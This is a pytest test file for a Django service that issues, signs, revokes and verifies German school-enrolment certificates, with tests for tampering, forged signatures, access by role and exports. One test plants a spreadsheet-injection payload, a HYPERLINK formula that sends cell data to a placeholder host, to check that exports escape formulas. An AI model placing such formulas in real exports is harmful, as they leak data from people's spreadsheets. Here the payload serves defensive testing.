"""Schulbescheinigungen: a school issues for its own enrolled pupils, the Familienkasse verifies,
the administration manages the keys; nothing about a certificate can be changed unnoticed."""

from __future__ import annotations

import json
import re
from datetime import date, timedelta

import pytest
from django.utils import timezone

from missimo.audit.models import AuditEvent
from missimo.certificates import services, signing
from missimo.certificates.models import Certificate

pytestmark = pytest.mark.django_db(databases="__all__")

SCHOOL = "123456"
OTHER_SCHOOL = "654321"


def _de(day: date) -> str:
    return day.strftime("%d.%m.%Y")


def schule_csv(rows: list[dict]) -> bytes:
    header = "Schulnummer;Schulname;Schueler_ID;Nachname;Vorname;Geburtsdatum;Klasse;Aufnahmedatum;Entlassdatum;Stand"
    lines = [header]
    for row in rows:
        lines.append(
            ";".join(
                [
                    row.get("schulnummer", SCHOOL),
                    row.get("schulname", "Gesamtschule Nord"),
                    row["id"],
                    row["nachname"],
                    row["vorname"],
                    row.get("geburtsdatum", "14.03.2015"),
                    row.get("klasse", "5a"),
                    _de(row.get("aufnahme", date(2024, 8, 1))),
                    _de(row["entlassung"]) if row.get("entlassung") else "",
                    _de(timezone.localdate()),
                ]
            )
        )
    return ("\n".join(lines) + "\n").encode("utf-8")


def deliver_schools(rows: list[dict]):
    import io

    from django.test import TestCase

    from missimo.imports import services as imports

    delivery = imports.store_delivery("schule", io.BytesIO(schule_csv(rows)), "schule.csv")
    with TestCase.captureOnCommitCallbacks(execute=True):  # the revocation follows the committed snapshot
        # Taken as confirmed by the school: a much smaller delivery would otherwise be held (issue #16).
        delivery = imports.process_delivery(delivery.pk, force=True)
    assert delivery.status == "taken", delivery.message
    return delivery


PUPILS = [
    {"id": "S-1", "nachname": "Yılmaz", "vorname": "Elif"},
    {"id": "S-2", "nachname": "Popescu", "vorname": "Andrei", "entlassung": date(2025, 1, 31)},
    {
        "id": "S-3",
        "nachname": "Novak",
        "vorname": "Mia",
        "schulnummer": OTHER_SCHOOL,
        "schulname": "Grundschule Süd",
    },
    {"id": "S-4", "nachname": "Kaya", "vorname": "Deniz", "aufnahme": date(2099, 8, 1)},
]


@pytest.fixture
def school_user(make_user):
    from missimo.accounts.models import Agency, AgencyKind
    from missimo.accounts.policy import Role

    Agency.objects.create(name="Gesamtschule Nord", kind=AgencyKind.SCHULE, schulnummer=SCHOOL)
    return make_user("sabine", Role.SCHULE, "Gesamtschule Nord", AgencyKind.SCHULE)


@pytest.fixture
def other_school_user(make_user):
    from missimo.accounts.models import Agency, AgencyKind
    from missimo.accounts.policy import Role

    Agency.objects.create(name="Grundschule Süd", kind=AgencyKind.SCHULE, schulnummer=OTHER_SCHOOL)
    return make_user("otto", Role.SCHULE, "Grundschule Süd", AgencyKind.SCHULE)


@pytest.fixture
def admin_user(make_user):
    from missimo.accounts.models import AgencyKind
    from missimo.accounts.policy import Role

    return make_user("alex", Role.ADMINISTRATION, "IT", AgencyKind.IT)


@pytest.fixture
def school_ready(school_user, other_school_user):
    deliver_schools(PUPILS)
    services.create_key(SCHOOL)
    services.create_key(OTHER_SCHOOL)
    return school_user


@pytest.fixture
def certificate(school_ready) -> Certificate:
    return services.issue_from_snapshot(school_ready, "S-1")


def _keylist():
    return services.published_key_list()


def _today():
    return timezone.localdate()


# --- issuing -----------------------------------------------------------------------------


def test_a_school_issues_a_signed_certificate_for_its_enrolled_pupil(certificate):
    result = signing.verify(certificate.token, _keylist(), _today())
    assert result.valid, result.message
    assert result.payload["nn"] == "Yılmaz" and result.payload["gd"] == "2015-03-14"
    assert result.payload["sn"] == SCHOOL and result.payload["kid"] == certificate.key.kid
    assert set(result.payload) == set(signing.FIELDS)  # nothing beyond the minimal data
    assert ("Geburtsdatum", "14.03.2015") in result.data()
    assert AuditEvent.objects.filter(object_type="schulbescheinigung", action="create").exists()


def test_the_certificate_is_valid_until_the_end_of_the_school_year():
    assert services.school_year(date(2026, 11, 22)) == ("2026/27", date(2027, 7, 31))
    assert services.school_year(date(2027, 3, 1)) == ("2026/27", date(2027, 7, 31))
    assert services.school_year(date(2027, 8, 1)) == ("2027/28", date(2028, 7, 31))


def test_a_certificate_for_a_pupil_who_has_left_is_refused(school_ready):
    with pytest.raises(services.CertificateRefused, match="nicht mehr Schülerin oder Schüler"):
        services.issue_from_snapshot(school_ready, "S-2")
    assert not Certificate.objects.exists()


def test_a_certificate_for_a_pupil_not_yet_admitted_is_refused(school_ready):
    with pytest.raises(services.CertificateRefused, match="noch nicht Schülerin oder Schüler"):
        services.issue_from_snapshot(school_ready, "S-4")


def test_a_hand_entered_pupil_who_has_left_is_refused(school_ready):
    with pytest.raises(services.CertificateRefused, match=r"entlassen am 20\.12\.2024"):
        services.issue_manual(
            school_ready,
            nachname="Kowalski",
            vorname="Jan",
            geburtsdatum=date(2014, 5, 2),
            aufnahmedatum=date(2022, 8, 1),
            entlassdatum=date(2024, 12, 20),
        )


def test_a_hand_entered_pupil_that_the_snapshot_says_has_left_is_refused(school_ready):
    with pytest.raises(services.CertificateRefused, match="aktuellen Datenstand"):
        services.issue_manual(
            school_ready,
            nachname="Popescu",
            vorname="Andrei",
            geburtsdatum=date(2015, 3, 14),
            aufnahmedatum=date(2024, 8, 1),
        )


def test_a_hand_entered_enrolled_pupil_gets_a_valid_certificate(school_ready):
    certificate = services.issue_manual(
        school_ready,
        nachname="Schmidt",
        vorname="Lena",
        geburtsdatum=date(2013, 1, 9),
        aufnahmedatum=date(2023, 8, 1),
    )
    assert certificate.origin == "manual"
    assert signing.verify(certificate.token, _keylist(), _today()).valid


def test_a_school_without_a_key_cannot_issue(school_user):
    deliver_schools(PUPILS)
    with pytest.raises(services.CertificateRefused, match="kein Signaturschlüssel"):
        services.issue_from_snapshot(school_user, "S-1")


def test_a_school_cannot_issue_for_a_pupil_of_another_school(school_ready, client):
    with pytest.raises(services.PupilNotFound):
        services.issue_from_snapshot(school_ready, "S-3")
    client.force_login(school_ready)
    assert client.post("/bescheinigungen/ausstellen/", {"schueler_id": "S-3"}).status_code == 404
    assert not Certificate.objects.exists()


def test_another_school_does_not_see_or_download_a_certificate(certificate, other_school_user, client):
    client.force_login(other_school_user)
    assert client.get(f"/bescheinigungen/{certificate.certificate_id}/").status_code == 404
    assert client.get(f"/bescheinigungen/{certificate.certificate_id}/bescheinigung.pdf").status_code == 404
    assert (
        client.post(f"/bescheinigungen/{certificate.certificate_id}/widerrufen/", {"reason": "x"}).status_code
        == 404
    )
    assert client.post("/bescheinigungen/ausstellen/", {"schueler_id": "S-1"}).status_code == 404


def test_the_familienkasse_cannot_issue(school_ready, fabian, client):
    client.force_login(fabian)
    assert client.get("/bescheinigungen/ausstellen/").status_code == 404
    assert client.post("/bescheinigungen/ausstellen/", {"schueler_id": "S-1"}).status_code == 404
    assert client.post("/bescheinigungen/ausstellen/eingabe/", {}).status_code == 404
    with pytest.raises(services.CertificateRefused):
        services.issue_manual(
            fabian, nachname="A", vorname="B", geburtsdatum=date(2015, 1, 1), aufnahmedatum=date(2024, 8, 1)
        )
    assert not Certificate.objects.exists()


def test_issuing_in_the_browser_shows_the_refusal_in_german(school_ready, client):
    client.force_login(school_ready)
    page = client.get("/bescheinigungen/ausstellen/", {"q": "popescu"})
    assert "Andrei" in page.text
    response = client.post("/bescheinigungen/ausstellen/?q=popescu", {"schueler_id": "S-2"})
    assert response.status_code == 422
    assert "nicht mehr Schülerin oder Schüler Ihrer Schule" in response.text


def test_the_school_issues_and_downloads_the_pdf_with_the_payload_inside(school_ready, client):
    client.force_login(school_ready)
    response = client.post("/bescheinigungen/ausstellen/", {"schueler_id": "S-1"})
    assert response.status_code == 302
    certificate = Certificate.objects.get()
    pdf = client.get(f"/bescheinigungen/{certificate.certificate_id}/bescheinigung.pdf")
    assert pdf.status_code == 200 and pdf["Content-Type"] == "application/pdf"
    content = b"".join(pdf.streaming_content) if pdf.streaming else pdf.content
    assert content.startswith(b"%PDF")
    assert signing.find_token(content) == certificate.token
    assert AuditEvent.objects.filter(action="export", object_id=certificate.certificate_id).exists()


# --- tampering -----------------------------------------------------------------------------


def _retoken(raw: bytes) -> str:
    return signing.PREFIX + signing.b64url(raw)


def test_any_change_of_any_byte_of_the_payload_fails_verification(certificate):
    keylist, today = _keylist(), _today()
    raw = signing.b64url_decode(certificate.token[len(signing.PREFIX) :])
    assert signing.verify(_retoken(raw), keylist, today).valid
    for position in range(len(raw)):
        for bit in (1 << n for n in range(8)):
            changed = bytearray(raw)
            changed[position] ^= bit
            result = signing.verify(_retoken(bytes(changed)), keylist, today)
            assert not result.valid, (position, bit)
    assert not signing.verify(_retoken(raw[:-1]), keylist, today).valid
    assert not signing.verify(_retoken(raw + b" "), keylist, today).valid


def test_changed_data_with_the_old_signature_is_reported_as_a_bad_signature(certificate):
    signature, message = signing.split_token(certificate.token)
    payload = json.loads(message)
    payload["bis"] = "2099-07-31"
    result = signing.verify(_retoken(signature + signing.canonical(payload)), _keylist(), _today())
    assert result.code == "bad_signature" and "Signatur ist ungültig" in result.message
    assert result.data() == []  # nothing unsigned is shown as certified


def test_an_expired_certificate_is_invalid(certificate):
    result = signing.verify(certificate.token, _keylist(), certificate.valid_until + timedelta(days=1))
    assert result.code == "expired" and "abgelaufen" in result.message


def test_a_revoked_certificate_is_invalid_online_and_in_the_published_list(certificate, school_ready):
    services.revoke(school_ready, certificate, "Schulwechsel")
    keylist = _keylist()
    assert {"id": certificate.certificate_id, "from": _today().isoformat()} in keylist["revoked"]
    result = signing.verify(certificate.token, keylist, _today())
    assert result.code == "revoked" and "widerrufen" in result.message


def test_an_unknown_key_is_refused(certificate):
    keylist = _keylist()
    keylist["keys"] = [k for k in keylist["keys"] if k["kid"] != certificate.key.kid]
    result = signing.verify(certificate.token, keylist, _today())
    assert result.code == "unknown_key" and "unbekannten Schlüssel" in result.message


def test_a_key_of_another_school_is_refused_as_wrong_school(certificate):
    """A school signing with its own key for another school's number: the key is not that school's."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    other = services.active_key(OTHER_SCHOOL)
    private = services._decrypt(other.private_key_encrypted)
    _, message = signing.split_token(certificate.token)
    payload = json.loads(message)
    payload["kid"] = other.kid  # still claims Schulnummer 123456
    forged = signing.sign(payload, private)
    result = signing.verify(forged, _keylist(), _today())
    assert result.code == "wrong_school" and "falsche Schule" in result.message
    stranger = signing.sign(payload, Ed25519PrivateKey.generate())
    assert signing.verify(stranger, _keylist(), _today()).code == "bad_signature"


def test_a_key_not_valid_at_the_issue_date_is_refused(certificate):
    keylist = _keylist()
    for key in keylist["keys"]:
        if key["kid"] == certificate.key.kid:
            key["valid_from"] = (_today() + timedelta(days=1)).isoformat()
    result = signing.verify(certificate.token, keylist, _today())
    assert result.code == "key_not_valid" and "Ausstellungsdatum nicht gültig" in result.message


def test_a_rotated_key_signs_no_more_but_its_certificates_stay_valid(certificate, school_ready):
    old = certificate.key
    new = services.rotate_key(SCHOOL)
    old.refresh_from_db()
    assert old.valid_until == _today() and new.valid_until is None and new.kid != old.kid
    assert signing.verify(certificate.token, _keylist(), _today()).valid
    second = services.issue_from_snapshot(school_ready, "S-1")
    assert second.key == new and signing.verify(second.token, _keylist(), _today()).valid


def test_a_second_key_for_a_school_is_refused_without_rotation(school_ready):
    with pytest.raises(services.CertificateRefused, match="bereits einen gültigen Schlüssel"):
        services.create_key(SCHOOL)


# --- revocation when a pupil leaves ---------------------------------------------------------


def test_a_new_delivery_with_an_entlassdatum_revokes_the_certificate(certificate):
    left = _today() - timedelta(days=1)
    deliver_schools([{**PUPILS[0], "entlassung": left}, *PUPILS[1:]])
    certificate.refresh_from_db()
    assert certificate.revoked_from == certificate.issued_on  # left before it was issued: void from the start
    assert "Entlassung" in certificate.revoked_reason
    assert signing.verify(certificate.token, _keylist(), _today()).code == "revoked"


def test_a_future_entlassdatum_revokes_the_certificate_from_that_day(certificate):
    leaves = _today() + timedelta(days=10)
    deliver_schools([{**PUPILS[0], "entlassung": leaves}, *PUPILS[1:]])
    certificate.refresh_from_db()
    assert certificate.revoked_from == leaves
    assert signing.verify(certificate.token, _keylist(), _today()).valid
    assert signing.verify(certificate.token, _keylist(), leaves).code == "revoked"


def test_a_failing_revocation_never_breaks_the_import(certificate, monkeypatch):
    def broken(today):
        raise RuntimeError("kaputt")

    monkeypatch.setattr(services, "_revoke_departed", broken)
    deliver_schools([{**PUPILS[0], "entlassung": _today()}])
    assert services.revoke_for_departed_pupils() is None


# --- keys ----------------------------------------------------------------------------------


def test_the_key_list_is_public_and_holds_no_private_material(certificate, client):
    response = client.get("/bescheinigungen/schluessel.json")
    assert response.status_code == 200
    keylist = response.json()
    assert keylist["format"] == signing.KEYLIST_FORMAT
    assert {k["schulnummer"] for k in keylist["keys"]} == {SCHOOL, OTHER_SCHOOL}
    text = response.content.decode()
    assert "PRIVATE" not in text and "private" not in text.lower()
    for key in keylist["keys"]:
        assert set(key) == {
            "kid",
            "schulnummer",
            "school_name",
            "algorithm",
            "public_key",
            "valid_from",
            "valid_until",
        }
        assert len(signing.b64url_decode(key["public_key"])) == 32
    for stored in services.SigningKey.objects.all():
        assert bytes(stored.private_key_encrypted).startswith(b"-----BEGIN ENCRYPTED PRIVATE KEY-----")
        assert bytes(stored.private_key_encrypted).decode() not in text


def test_the_administration_creates_and_rotates_keys_in_the_browser(admin_user, school_user, client):
    client.force_login(admin_user)
    assert (
        client.post("/bescheinigungen/schluessel/", {"schulnummer": SCHOOL, "action": "create"}).status_code
        == 302
    )
    assert (
        client.post("/bescheinigungen/schluessel/", {"schulnummer": SCHOOL, "action": "rotate"}).status_code
        == 302
    )
    assert list(services.SigningKey.objects.order_by("id").values_list("valid_until", flat=True)) == [
        _today(),
        None,
    ]
    page = client.get("/bescheinigungen/schluessel/")
    assert "SB-123456-2" in page.text and "BEGIN" not in page.text


def test_only_the_administration_manages_keys(school_user, fabian, client):
    for user in (school_user, fabian):
        client.force_login(user)
        assert client.get("/bescheinigungen/schluessel/").status_code == 404


# --- online verification ----------------------------------------------------------------------


def test_the_familienkasse_verifies_an_uploaded_pdf(certificate, fabian, client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from missimo.certificates.pdf import render_pdf

    client.force_login(fabian)
    pdf = SimpleUploadedFile("bescheinigung.pdf", render_pdf(certificate), content_type="application/pdf")
    page = client.post("/bescheinigungen/pruefen/", {"file": pdf})
    assert page.status_code == 200
    assert "Die Schulbescheinigung ist gültig." in page.text and "Yılmaz" in page.text
    assert "14.03.2015" in page.text
    event = AuditEvent.objects.filter(action="read", object_id=certificate.certificate_id).latest("sequence")
    assert event.details["result"] == "valid"


def test_the_familienkasse_sees_a_revoked_certificate_as_revoked(certificate, school_ready, fabian, client):
    services.revoke(school_ready, certificate, "Schulwechsel")
    client.force_login(fabian)
    page = client.post("/bescheinigungen/pruefen/", {"text": certificate.token})
    assert "Ungültig" in page.text and "widerrufen" in page.text


def test_pasted_rubbish_is_reported_in_german(fabian, client):
    client.force_login(fabian)
    page = client.post("/bescheinigungen/pruefen/", {"text": "hallo"})
    assert "keine Schulbescheinigung von MISSIMO" in page.text


def test_a_school_cannot_open_the_verification_page(school_user, client):
    client.force_login(school_user)
    assert client.get("/bescheinigungen/pruefen/").status_code == 404


def test_the_school_revokes_a_certificate_in_the_browser(certificate, school_ready, client):
    client.force_login(school_ready)
    url = f"/bescheinigungen/{certificate.certificate_id}/widerrufen/"
    assert client.post(url, {"reason": ""}).status_code == 422
    assert client.post(url, {"reason": "Schulwechsel"}).status_code == 302
    certificate.refresh_from_db()
    assert certificate.revoked_from == _today() and certificate.revoked_by == school_ready
    page = client.get(f"/bescheinigungen/{certificate.certificate_id}/")
    assert "Widerrufen ab" in page.text and "Schulwechsel" in page.text


def test_the_school_sees_its_own_certificates_only_and_the_reading_is_logged(
    certificate, other_school_user, school_ready, client
):
    client.force_login(school_ready)
    assert certificate.certificate_id in client.get("/bescheinigungen/").text
    assert AuditEvent.objects.filter(object_type="schulbescheinigung_liste").exists()
    client.force_login(other_school_user)
    assert certificate.certificate_id not in client.get("/bescheinigungen/").text


def test_each_role_sees_only_its_certificate_menu_entries(school_user, fabian, admin_user, kim, client):
    expected = {
        school_user: "Schulbescheinigungen",
        fabian: "Schulbescheinigung prüfen",
        admin_user: "Bescheinigungsschlüssel",
    }
    entries = set(expected.values())
    for user, entry in expected.items():
        client.force_login(user)
        text = client.get("/").text
        assert entry in text
        assert not any(other in text for other in entries - {entry} if other not in entry)
    client.force_login(kim)
    assert not any(entry in client.get("/").text for entry in entries)
    assert client.get("/bescheinigungen/").status_code == 404


# --- export of the list of issued certificates ------------------------------------------------

FORMULA = '=HYPERLINK("https://example.invalid/?d="&A1;"Klick")'


def _export(client, fmt):
    import csv
    import io

    import openpyxl

    response = client.get(f"/bescheinigungen/export.{fmt}")
    assert response.status_code == 200
    if fmt == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_the_certificate_export_has_the_certificates_the_page_lists(certificate, school_ready, client):
    services.revoke(school_ready, certificate, "Schule gewechselt")
    second = services.issue_from_snapshot(school_ready, "S-1")
    client.force_login(school_ready)
    page = client.get("/bescheinigungen/")
    shown = [c.certificate_id for c in page.context["certificates"]]
    assert sorted(shown) == sorted([certificate.certificate_id, second.certificate_id])
    assert "/bescheinigungen/export.xlsx" in page.text
    rows = _export(client, "csv")
    assert rows[0] == ["Nummer", "Name", "Geburtsdatum", "ausgestellt", "gültig bis", "Status"]
    assert [row[0] for row in rows[1:]] == shown
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id[certificate.certificate_id][1:3] == ["Yılmaz, Elif", "14.03.2015"]
    assert by_id[certificate.certificate_id][5] == f"widerrufen ab {_de(_today())}"
    assert by_id[second.certificate_id][5] == "gültig"
    assert [row[0] for row in _export(client, "xlsx")[1:]] == shown
    assert client.get("/bescheinigungen/export.doc").status_code == 404


def test_the_certificate_export_is_audited_escapes_formulas_and_has_no_other_school(
    certificate, school_ready, other_school_user, fabian, client
):
    from missimo.audit.models import AuditAction

    other = services.issue_from_snapshot(other_school_user, "S-3")
    Certificate.objects.update(nachname=FORMULA)
    client.force_login(school_ready)
    rows = _export(client, "csv")
    assert [row[0] for row in rows[1:]] == [certificate.certificate_id]
    assert rows[1][1] == f"'{FORMULA}, Elif"
    assert _export(client, "xlsx")[1][1] == f"'{FORMULA}, Elif"
    event = AuditEvent.objects.filter(
        action=AuditAction.EXPORT, object_type="schulbescheinigung_liste"
    ).first()
    assert event.actor_username == "sabine" and event.details["certificates"] == [certificate.certificate_id]
    assert other.certificate_id not in str(event.details)
    client.force_login(fabian)
    assert client.get("/bescheinigungen/export.csv").status_code == 404


# --- certificates from paper: scans and photos, the camera, the missing key --------------------


def _paper(certificate, *, dpi: int = 150):
    """The certificate as the Familienkasse gets it on paper: printed and scanned (an image, without
    the PDF's metadata and attachment)."""
    import pypdfium2 as pdfium

    from missimo.certificates.pdf import render_pdf

    page = pdfium.PdfDocument(render_pdf(certificate))[0]
    return page.render(scale=dpi / 72).to_pil().convert("L")


def _upload(name: str, image, fmt: str, content_type: str, **save):
    import io

    from django.core.files.uploadedfile import SimpleUploadedFile

    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **save)
    return SimpleUploadedFile(name, buffer.getvalue(), content_type=content_type)


def test_an_image_only_pdf_scan_is_verified_by_reading_its_qr_code(certificate, fabian, client):
    scan = _upload("scan.pdf", _paper(certificate), "PDF", "application/pdf", resolution=150)
    assert signing.find_token(scan.read()) is None  # no token in the file: only the picture
    scan.seek(0)
    client.force_login(fabian)
    page = client.post("/bescheinigungen/pruefen/", {"file": scan})
    assert page.status_code == 200
    assert "Die Schulbescheinigung ist gültig." in page.text and "Yılmaz" in page.text
    assert "Ungültig" not in page.text
    event = AuditEvent.objects.filter(action="read", object_id=certificate.certificate_id).latest("sequence")
    assert event.details == {"result": "valid", "channel": "scan"}


@pytest.mark.parametrize(
    ("fmt", "content_type", "name"), [("JPEG", "image/jpeg", "foto.jpg"), ("PNG", "image/png", "scan.png")]
)
def test_a_photo_or_png_scan_is_verified(certificate, fabian, client, fmt, content_type, name):
    image = _paper(certificate, dpi=110).rotate(2, expand=True, fillcolor=255)  # held a little askew
    client.force_login(fabian)
    page = client.post("/bescheinigungen/pruefen/", {"file": _upload(name, image, fmt, content_type)})
    assert "Die Schulbescheinigung ist gültig." in page.text


def test_a_scan_of_a_revoked_certificate_is_invalid(certificate, school_ready, fabian, client):
    services.revoke(school_ready, certificate, "Schulwechsel")
    client.force_login(fabian)
    scan = _upload("scan.png", _paper(certificate), "PNG", "image/png")
    page = client.post("/bescheinigungen/pruefen/", {"file": scan})
    assert "Ungültig" in page.text and "widerrufen" in page.text


def test_a_picture_without_a_qr_code_is_not_readable_rather_than_invalid(fabian, client):
    from PIL import Image

    client.force_login(fabian)
    blank = _upload("leer.png", Image.new("L", (800, 1100), 255), "PNG", "image/png")
    page = client.post("/bescheinigungen/pruefen/", {"file": blank})
    assert "Nicht lesbar" in page.text and "kein lesbarer QR-Code" in page.text
    assert "Ungültig" not in page.text


def test_a_file_that_is_neither_pdf_nor_image_is_refused_in_german(fabian, client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client.force_login(fabian)
    junk = SimpleUploadedFile("brief.docx", b"PK\x03\x04 kein Bild", content_type="application/zip")
    page = client.post("/bescheinigungen/pruefen/", {"file": junk})
    assert page.status_code == 400
    assert "weder eine PDF-Datei noch ein lesbares Bild" in page.text


def test_the_verification_page_offers_the_camera_with_local_scripts_only(fabian, client):
    client.force_login(fabian)
    page = client.get("/bescheinigungen/pruefen/").text
    assert 'id="kamera-start"' in page and "QR-Code mit der Kamera scannen" in page
    assert "/static/vendor/jsqr/jsQR.js" in page and "/static/certificates/camera.js" in page
    # no script from elsewhere (a CDN): every script source is a path of this server
    sources = re.findall(r'<script[^>]*\bsrc="([^"]+)"', page)
    assert sources and all(src.startswith("/") for src in sources), sources


def test_a_school_without_a_key_is_told_before_any_form(school_user, client):
    deliver_schools(PUPILS)
    client.force_login(school_user)
    for url in (
        "/bescheinigungen/",
        "/bescheinigungen/ausstellen/?q=Yılmaz",
        "/bescheinigungen/ausstellen/eingabe/",
    ):
        page = client.get(url).text
        assert "Für Ihre Schule ist noch kein Signaturschlüssel eingerichtet" in page, url
    issue = client.get("/bescheinigungen/ausstellen/?q=Yılmaz").text
    assert "Yılmaz" in issue and 'name="schueler_id"' not in issue  # found, but no button that must fail
    manual = client.get("/bescheinigungen/ausstellen/eingabe/").text
    assert 'name="nachname"' not in manual


def test_a_school_with_a_key_sees_no_warning(school_ready, client):
    client.force_login(school_ready)
    page = client.get("/bescheinigungen/ausstellen/?q=Yılmaz").text
    assert "kein Signaturschlüssel" not in page and 'name="schueler_id"' in page
